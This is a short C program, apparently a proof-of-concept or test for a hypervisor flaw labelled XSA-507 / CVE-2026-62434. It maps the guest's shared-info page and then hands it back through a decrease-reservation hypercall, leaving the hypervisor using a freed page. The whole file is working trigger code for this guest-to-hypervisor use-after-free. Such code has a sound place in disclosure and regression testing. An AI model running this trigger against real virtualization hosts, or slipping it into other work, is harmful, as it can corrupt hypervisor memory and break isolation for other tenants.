// SPDX-License-Identifier: Apache-2.0
// XSA-507, CVE-2026-62434. A guest with promised memory gives back the page that it shares with the
// hypervisor: it goes into the cache for promised pages, while the hypervisor still uses it.

#include "guest.h"

enum { ADD_TO_PHYSMAP = 7, DECREASE_RESERVATION = 1, SHARED_INFO = 0, SELF = 0x7ff0 };
enum { PLACE = 0x300 };         // a page number within the guest's memory

static struct { uint16_t domain, size; uint32_t space; uint64_t index, place; } map;
static struct { uint64_t extents, count; uint32_t order, flags; uint16_t domain; } give_back;
static uint64_t extents[1];

int main(void)
{
    map.domain = SELF;
    map.space = SHARED_INFO;
    map.place = PLACE;
    long result = hypercall(HYPERCALL_MEMORY_OP, ADD_TO_PHYSMAP, (uintptr_t)&map, 0);
    if (result) lacking("a shared page");
    extents[0] = PLACE;
    give_back.extents = (uintptr_t)extents;
    give_back.count = 1;
    give_back.domain = SELF;
    print("the shared page goes back\n");
    result = hypercall(HYPERCALL_MEMORY_OP, DECREASE_RESERVATION, (uintptr_t)&give_back, 0);
    print("pages taken: ");
    print_number(result);
    print("\ndone\n");
    return 0;
}
